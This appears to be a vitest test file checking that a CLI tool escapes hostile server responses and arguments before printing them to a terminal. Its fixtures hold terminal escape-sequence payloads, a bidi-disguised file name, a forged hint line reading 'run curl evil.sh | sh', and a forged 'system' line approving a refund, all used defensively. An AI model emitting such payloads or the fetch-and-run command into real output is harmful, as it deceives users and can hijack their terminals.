import net from 'node:net';
import { afterEach, describe, expect, it, afterAll, beforeAll } from 'vitest';
import { run, tempDir, startInProcess } from '../helpers/io.js';
import { sendJson, startServer, type TestServer } from '../helpers/server.js';
import { safeJson, safeLine, safeText } from '../../src/output/format.js';
import http from 'node:http';

// Issue 11, item 3: everything from outside is escaped wherever it is shown.
const KEY = 'gsk_test_escape_0123456789abcdef';
/** What a terminal would act on: ESC, BEL, C1 (U+009B is a one-byte CSI), DEL, bidi overrides. */
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
const HOSTILE = 'boom\x1b]0;pwned\x07\x1b[2J\u009b31m\u202egnp.exe\u2066x\x7f';

let server: TestServer | undefined;
let raw: net.Server | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
  if (raw) await new Promise((r) => raw!.close(r));
  raw = undefined;
});

// NO_COLOR and -q: our own colour and spinner sequences stay out, so any escape left is the server's.
const env = (url: string, extra: Record<string, string> = {}) => ({
  GURUSUP_CONFIG_DIR: tempDir(),
  GURUSUP_API_KEY: KEY,
  GURUSUP_BASE_URL: url,
  NO_COLOR: '1',
  ...extra,
});

/** Every stderr line is one of ours: no forged `hint:` from inside a message. */
function linesOf(s: string): string[] {
  return s.split('\n').filter(Boolean);
}

describe('escaping: the functions', () => {
  it('safeText keeps newline and tab, escapes C0, DEL, C1 and bidi', () => {
    expect(safeText('a\nb\tc\x1b[2J\u009b\x7f\u202e\u2069')).toBe('a\nb\tc\\x1b[2J\\x9b\\x7f\\u202e\\u2069');
  });
  it('safeLine also escapes newlines and carriage returns', () => {
    expect(safeLine('a\nhint: forged\r')).toBe('a\\nhint: forged\\r');
  });
  it('safeJson writes DEL, C1 and bidi as \\u escapes, and the JSON still means the same', () => {
    const v = { s: '\u009b\u202e\x7f\u0085ok' };
    const out = safeJson(JSON.stringify(v, null, 2));
    expect(out).not.toMatch(RAW);
    expect(JSON.parse(out)).toEqual(v);
  });
});

describe('escaping: API error bodies never reach the terminal raw', () => {
  for (const status of [401, 404, 500]) {
    it(`a ${status} JSON message with escape sequences and a newline forging a hint`, async () => {
      server = await startServer((_r, res) =>
        sendJson(res, status, { message: `${HOSTILE}\nhint: run curl evil.sh | sh` }),
      );
      const r = await run(['threads', 'list', '-q'], { env: env(server.url), tty: true });
      expect(r.code).not.toBe(0);
      expect(r.stderr).not.toMatch(RAW);
      expect(r.stderr).toContain('\\x1b]0;pwned');
      expect(linesOf(r.stderr).some((l) => l.startsWith('hint: run curl'))).toBe(false);
    });
  }

  it('an HTML error page', async () => {
    server = await startServer((_r, res) => {
      res.writeHead(500, { 'content-type': 'text/html' });
      res.end(`<html><body><h1>${HOSTILE}</h1></body></html>`);
    });
    const r = await run(['threads', 'list', '-q'], { env: env(server.url), tty: true });
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW);
  });

  it('the "not JSON" preview of a 200', async () => {
    server = await startServer((_r, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(`${HOSTILE}\nhint: forged`);
    });
    const r = await run(['threads', 'list', '-q'], { env: env(server.url), tty: true });
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW);
    expect(linesOf(r.stderr).some((l) => l.startsWith('hint: forged'))).toBe(false);
  });

  it('the preview of a response cut off mid-body', async () => {
    raw = net.createServer((sock) => {
      sock.once('data', () => {
        const body = `[{"thread_fid":"${HOSTILE.replace(/[\x00-\x1f]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}`;
        sock.end(
          `HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n${body}\x1b[2J\u009b\n`,
        );
      });
    });
    await new Promise<void>((r) => raw!.listen(0, '127.0.0.1', r));
    const port = (raw.address() as net.AddressInfo).port;
    const r = await run(['threads', 'list', '-q'], { env: env(`http://127.0.0.1:${port}`), tty: true });
    expect(r.code).not.toBe(0);
    expect(r.stderr).not.toMatch(RAW);
  });

  it('--debug traces', async () => {
    server = await startServer((_r, res) => {
      res.writeHead(500, { 'content-type': `text/plain\u009b2J` });
      res.end(HOSTILE);
    });
    const r = await run(['threads', 'list', '-q', '--debug'], { env: env(server.url), tty: true });
    expect(r.stderr).toContain('< 500');
    expect(r.stderr).not.toMatch(RAW);
  });

  it('auth status: the API answer it quotes', async () => {
    server = await startServer((_r, res) => sendJson(res, 500, { message: HOSTILE }));
    const r = await run(['auth', 'status', '-q'], { env: env(server.url), tty: true });
    expect(r.stdout + r.stderr).toContain('Key check');
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stderr).not.toMatch(RAW);
  });

  it('--json pretty-printed on a terminal writes C1 and bidi as \\u escapes; the JSON stays valid', async () => {
    const threads = [{ thread_fid: 't1', subject: `\u009b31mred\u202eevil\x7f` }];
    server = await startServer((_r, res) => sendJson(res, 200, threads));
    const r = await run(['threads', 'list', '--json'], { env: env(server.url), tty: true });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW);
    expect(r.stdout).toContain('\\u009b31m');
    expect(JSON.parse(r.stdout)[0].subject).toBe(threads[0]!.subject);
  });
});

describe('--json field lists', () => {
  it('__proto__, toString, valueOf and hasOwnProperty are fields like any other', async () => {
    const threads = [
      { thread_fid: 't1', __proto__x: 1 },
      JSON.parse('{"thread_fid":"t2","__proto__":{"a":1},"toString":"s"}'),
    ];
    server = await startServer((_r, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify(threads.slice(0, 1)).slice(0, -1) + ',{"thread_fid":"t2","__proto__":{"a":1},"toString":"s"}]',
      );
    });
    const r = await run(['threads', 'list', '--json', 'thread_fid,__proto__,toString,valueOf,hasOwnProperty'], {
      env: env(server.url),
    });
    expect(r.code).toBe(0);
    const lines = JSON.parse(r.stdout) as unknown[];
    expect(r.stdout).toContain('"__proto__":{"a":1}');
    expect(JSON.stringify(lines[0])).toBe(
      '{"thread_fid":"t1","__proto__":null,"toString":null,"valueOf":null,"hasOwnProperty":null}',
    );
    expect(r.stdout).toContain('"toString":"s"');
  });
});

describe('raw bodies shown on a terminal', () => {
  it('gurusup api: a text body and -i headers from the server are escaped on a terminal, kept as sent in a pipe', async () => {
    server = await startServer((_r, res) => {
      res.writeHead(200, { 'content-type': 'text/plain', 'x-evil': 'a\u009bb' });
      res.end(`${HOSTILE}\n`);
    });
    const tty = await run(['api', '/anything', '-i', '-q'], { env: env(server.url), tty: true });
    expect(tty.code).toBe(0);
    expect(tty.stdout).toContain('boom\\x1b]0;pwned');
    expect(tty.stdout).not.toMatch(RAW);
    expect(tty.stderr).not.toMatch(RAW);
    const piped = await run(['api', '/anything'], { env: env(server.url) });
    expect(piped.stdout).toBe(`${HOSTILE}\n`);
  });

  it('webhook trigger: the endpoint answer is escaped on a terminal', async () => {
    server = await startServer((_r, res) => {
      res.writeHead(200, { 'content-type': 'text/plain' });
      res.end(HOSTILE);
    });
    const r = await run(['webhook', 'trigger', '--to', server.url], { env: env(server.url), tty: true });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('boom\\x1b]0;pwned');
    expect(r.stdout).not.toMatch(RAW);
  });
});

describe("the user's own arguments", () => {
  it('an unknown option carrying escape sequences is quoted escaped', async () => {
    const r = await run(['threads', 'list', '--x\x1b[2J\u009b31m'], { env: { GURUSUP_CONFIG_DIR: tempDir() } });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('--x\\x1b[2J\\x9b31m');
    expect(r.stderr).not.toMatch(RAW);
  });
});

describe('API text on a terminal', () => {
  // Review: a hostile API's escape sequences reached a terminal through the NDJSON and line modes that
  // a terminal can still be on: `echo hi | gurusup chat` (stdin piped, stdout a terminal) printed the
  // reply raw (ESC ] retitles the window, ESC [2J clears it); `chat --json` and `threads show -f --json`
  // on a terminal left C1 controls (U+009B, a one-byte CSI) and bidi overrides raw inside the JSON.

  const KEY = 'gsk_test_review_escape_0123456789';
  const EVIL = 'x\u001b]0;pwned\u0007\u001b[2J\u009b31m\u202eevil';
  const RAW = /[\u001b\u0007\u0080-\u009f\u202a-\u202e]/;
  let api: TestServer;
  let env: Record<string, string>;

  beforeAll(async () => {
    api = await startServer((req, res) => {
      if (req.method === 'GET')
        return sendJson(res, 200, { thread_fid: 'e-1', subject: EVIL, messages: [{ _id: 'a', body: EVIL }] });
      return sendJson(res, 201, { _id: 'r', body: `reply ${EVIL}`, role: 'assistant' });
    });
    env = { GURUSUP_CONFIG_DIR: tempDir(), GURUSUP_API_KEY: KEY, GURUSUP_BASE_URL: api.url, FORCE_COLOR: '0' };
  });
  afterAll(() => api.close());

  describe('nothing from the API reaches a terminal raw', () => {
    it('chat with stdin piped and stdout a terminal: the reply line is escaped', async () => {
      const r = await run(['chat'], { env, stdin: 'hi\n', stdoutTTY: true });
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(RAW);
      expect(r.stdout).toBe('reply x\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202eevil\n');
    });

    it('chat --json on a terminal: C1 and bidi overrides as \\u escapes, still the same JSON', async () => {
      const r = await run(['chat', '--json'], { env, stdin: 'hi\n', stdoutTTY: true });
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(RAW);
      expect(JSON.parse(r.stdout).body).toBe(`reply ${EVIL}`);
    });

    it('chat piped end to end stays byte for byte (no escaping in a pipe)', async () => {
      const r = await run(['chat'], { env, stdin: 'hi\n' });
      expect(r.stdout).toBe(`reply ${EVIL}\n`);
    });

    it('threads show --follow --json on a terminal: the thread line is escaped, still the same JSON', async () => {
      const p = startInProcess(['threads', 'show', 'e-1', '--follow', '--json'], { env, stdoutTTY: true });
      await p.waitFor(/\n/, 'stdout');
      p.abort();
      expect(await p.done).toBe(0);
      expect(p.stdout()).not.toMatch(RAW);
      expect(JSON.parse(p.stdout().split('\n')[0]!).subject).toBe(EVIL);
    });
  });
});

describe('forged lines', () => {
  // Review: one-line fields were escaped with the multi-line rule (newlines kept), so a newline in a
  // user_fid, a time, a thread_fid or a subject forged lines in a transcript (a fake "system" reply),
  // and a receiver's answer forged a "✓" line in `webhook verify`'s checklist.

  const KEY = 'gsk_test_review_forged_012345678';
  const FORGE = 'cust\n\nsystem (gurusup-ai)  just now\n  Your refund of $5,000 is approved';
  let api: TestServer;
  let env: Record<string, string>;

  beforeAll(async () => {
    api = await startServer((_req, res) =>
      sendJson(res, 200, {
        thread_fid: 'f-1\nthread forged',
        subject: 'Hi\nsubject forged',
        messages: [
          {
            _id: 'a',
            body: 'hello',
            user_fid: FORGE,
            created_at: '2026-01-01T00:00:00Z\nsystem  forged',
            is_customer_support_agent: false,
          },
        ],
      }),
    );
    env = { GURUSUP_CONFIG_DIR: tempDir(), GURUSUP_API_KEY: KEY, GURUSUP_BASE_URL: api.url, FORCE_COLOR: '0' };
  });
  afterAll(() => api.close());

  describe('a newline in a one-line field never starts a line', () => {
    it.each([80, 0])('threads show on a terminal (width %i)', async (cols) => {
      const { fakeIo } = await import('../helpers/io.js');
      const { main } = await import('../../src/cli.js');
      const { io, stdout } = fakeIo({ env, tty: true });
      (io.stdout as unknown as { columns: number }).columns = cols;
      expect(await main(['threads', 'show', 'f-1'], io)).toBe(0);
      const lines = stdout.text.split('\n');
      expect(lines.filter((l) => /^system/.test(l))).toEqual([]);
      expect(lines.filter((l) => /^(thread|subject) forged/.test(l))).toEqual([]);
      expect(stdout.text).toContain('(cust\\n\\nsystem (gurusup-ai)  just now\\n  Your refund of $5,000 is approved)');
      // The body keeps its own lines.
      expect(lines).toContain('  hello');
    });

    it('webhook verify: a receiver answer with newlines stays inside its failure line', async () => {
      const receiver = http.createServer((req, res) => {
        req.resume();
        req.on('end', () => {
          res.writeHead(500, { 'content-type': 'application/json' });
          res.end(JSON.stringify({ message: 'no\n✓ 200        1 ms  a valid send-message event' }));
        });
      });
      await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
      const url = `http://127.0.0.1:${(receiver.address() as { port: number }).port}/`;
      const r = await run(['webhook', 'verify', url], { env, tty: true });
      receiver.close();
      expect(r.code).toBe(1);
      expect(r.stdout.split('\n').filter((l) => l.trimStart().startsWith('✓'))).toEqual([]);
    });
  });
});
